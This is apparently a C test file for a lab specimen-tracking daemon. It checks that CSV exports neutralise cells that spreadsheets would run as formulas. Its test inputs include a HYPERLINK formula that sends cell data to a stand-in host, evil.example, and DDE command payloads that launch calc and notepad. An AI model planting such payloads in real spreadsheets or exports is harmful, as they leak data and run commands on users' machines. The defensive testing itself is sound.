/*
 * test_csv.c — what a manager's spreadsheet would run. Text that people type
 * (notes, timepoints, tube and box barcodes, location names, shipment
 * destinations) reaches the CSV exports; a cell starting with = + - @, TAB
 * or CR is a formula to Excel and LibreOffice ("CSV injection", OWASP), so
 * every CSV the daemon writes neutralises such a cell: a leading apostrophe,
 * the cell quoted. A plain number (-12) is data and stays as it is.
 */
#include "world.h"

#include <stdlib.h>
#include <string.h>

/* The cells of one CSV record (RFC 4180), starting at *p; advances past it. */
static int
record(const char **p, char cells[][256], int max)
{
	int n = 0;
	const char *s = *p;

	while (*s != '\0' && n < max) {
		size_t len = 0;

		if (*s == '"') {
			for (s++; *s != '\0'; s++) {
				if (*s == '"' && s[1] == '"')
					s++;
				else if (*s == '"')
					break;
				if (len < 255)
					cells[n][len++] = *s;
			}
			if (*s == '"')
				s++;
		} else {
			while (*s != '\0' && *s != ',' && *s != '\r' && *s != '\n') {
				if (len < 255)
					cells[n][len++] = *s;
				s++;
			}
		}
		cells[n++][len] = '\0';
		if (*s == ',') {
			s++;
			continue;
		}
		if (*s == '\r')
			s++;
		if (*s == '\n')
			s++;
		break;
	}
	*p = s;
	return n;
}

/* The cell of column name in the data row whose column key has value key. */
static const char *
cell(const char *csv, const char *name, const char *key, const char *value)
{
	static char cells[40][256], head[40][256];
	const char *p = csv;
	int n = record(&p, head, 40), col = -1, kcol = -1;

	for (int i = 0; i < n; i++) {
		if (strcmp(head[i], name) == 0)
			col = i;
		if (strcmp(head[i], key) == 0)
			kcol = i;
	}
	if (col < 0 || kcol < 0)
		return NULL;
	while (*p != '\0') {
		int m = record(&p, cells, 40);

		if (m > col && m > kcol && strcmp(cells[kcol], value) == 0)
			return cells[col];
	}
	return NULL;
}

static void
post_ok(struct tenv *t, const char *path, const char *body, long want, struct resp *r)
{
	api(t, "POST", path, t->admin_token, body, r);
	if (r->status != want) {
		printf("Bail out! POST %s: %ld %s\n", path, r->status, r->body);
		exit(1);
	}
}

static void
expect(const char *csv, const char *column, const char *key, const char *value, const char *want,
       const char *why)
{
	const char *got = cell(csv, column, key, value);

	if (!ok(got != NULL && strcmp(got, want) == 0, "%s: %s", column, why))
		tap_diag("  got [%s], want [%s]", got ? got : "(no such cell)", want);
}

int
main(int argc, char **argv)
{
	struct tenv t;
	struct resp r;
	char id[16], plain[16];
	const char *csv_hdr[] = { "Accept: text/csv", NULL };

	tenv_setup(&t, "csv", argc, argv);
	world_make(&t);

	/* A box and a rack whose names start like formulas, made by a manager. */
	sql_int(&t, "INSERT INTO locations (parent_id, kind, name)"
	            " SELECT id, 'rack', '-2+3 (rack)' FROM locations WHERE name = 'Freezer 1'"
	            " RETURNING 1");
	sql_int(&t, "INSERT INTO boxes (barcode, rows, cols, location_id)"
	            " SELECT '@BOX(1)', 9, 9, id FROM locations WHERE name = '-2+3 (rack)'"
	            " RETURNING 1");

	post_ok(&t, "/api/v1/specimens",
	        "{\"participant\":{\"study\":\"MASC\",\"code\":\"P001\"},\"type\":\"serum\","
	        "\"timepoint\":\"+m12\",\"collected_at\":\"2026-03-01T09:30:00Z\","
	        "\"quantity\":{\"value\":1,\"unit\":\"mL\"},\"tube_barcode\":\"=1+2\","
	        "\"notes\":\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"open\\\")\"}",
	        201, &r);
	snprintf(id, sizeof(id), "%s", jstr(&r, "id"));
	resp_free(&r);
	char path[128];
	snprintf(path, sizeof(path), "/api/v1/specimens/%s/store", id);
	post_ok(&t, path, "{\"box\":\"@BOX(1)\",\"position\":\"A1\"}", 200, &r);
	resp_free(&r);
	post_ok(&t, "/api/v1/specimens",
	        "{\"participant\":{\"study\":\"MASC\",\"code\":\"P002\"},\"type\":\"serum\","
	        "\"timepoint\":\"-12\",\"collected_at\":\"2026-03-01T09:30:00Z\","
	        "\"quantity\":{\"value\":1,\"unit\":\"mL\"},\"notes\":\"\\tcmd|' /C calc'!A0\"}",
	        201, &r);
	snprintf(plain, sizeof(plain), "%s", jstr(&r, "id"));
	is_str(jstr(&r, "notes"), "cmd|' /C calc'!A0",
	       "the API stores a note without a leading TAB");
	resp_free(&r);
	/* A note stored before text was trimmed (or written by SQL) can still start with TAB. */
	char fix[160];
	snprintf(
	    fix, sizeof(fix),
	    "UPDATE specimens SET notes = E'\\tcmd|'' /C calc''!A0' WHERE id = '%s' RETURNING 1",
	    plain);
	is_int(sql_int(&t, fix), 1, "a note starting with TAB, as stored before");

	http_h(t.d.url, "GET", "/api/v1/specimens?limit=1000", t.admin_token, NULL, NULL, 0,
	       csv_hdr, &r);
	is_int(r.status, 200, "the specimen list as CSV");
	expect(r.body, "notes", "id", id, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
	       "a note starting with = is text to a spreadsheet");
	expect(r.body, "timepoint", "id", id, "'+m12", "a timepoint starting with + is text");
	expect(r.body, "tube_barcode", "id", id, "'=1+2", "a tube barcode starting with = is text");
	expect(r.body, "box", "id", id, "'@BOX(1)", "a box barcode starting with @ is text");
	ok(strstr(r.body, "\"'@BOX(1)\"") != NULL, "  and the neutralised cell is quoted");
	expect(r.body, "location", "id", id, "Main lab / Freezer 1 / -2+3 (rack) / @BOX(1)",
	       "a path starting with text is left as it is (only a cell's start matters)");
	expect(r.body, "notes", "id", plain, "'\tcmd|' /C calc'!A0",
	       "a note starting with TAB is text");
	expect(r.body, "timepoint", "id", plain, "-12", "a plain number (-12) stays a number");
	resp_free(&r);

	/* The shipment manifest: destination typed by a manager. */
	post_ok(&t, "/api/v1/shipments",
	        "{\"destination\":\"-cmd|' /C notepad'!A1\",\"conditions\":\"dry_ice\"}", 201, &r);
	char ship[64];
	snprintf(ship, sizeof(ship), "/api/v1/shipments/%.0f", jnum(&r, "id", 0));
	resp_free(&r);
	char add[160], body[128];
	snprintf(add, sizeof(add), "%s/specimens", ship);
	snprintf(body, sizeof(body), "{\"specimens\":[\"%s\"]}", id);
	post_ok(&t, add, body, 200, &r);
	resp_free(&r);
	http_h(t.d.url, "GET", ship, t.admin_token, NULL, NULL, 0, csv_hdr, &r);
	is_int(r.status, 200, "the manifest as CSV");
	expect(r.body, "destination", "specimen", id, "'-cmd|' /C notepad'!A1",
	       "a destination starting with - is text");
	expect(r.body, "timepoint", "specimen", id, "'+m12", "the manifest's timepoint too");
	expect(r.body, "from_box", "specimen", id, "'@BOX(1)", "and its box");
	resp_free(&r);

	tenv_teardown(&t);
	return tap_done();
}
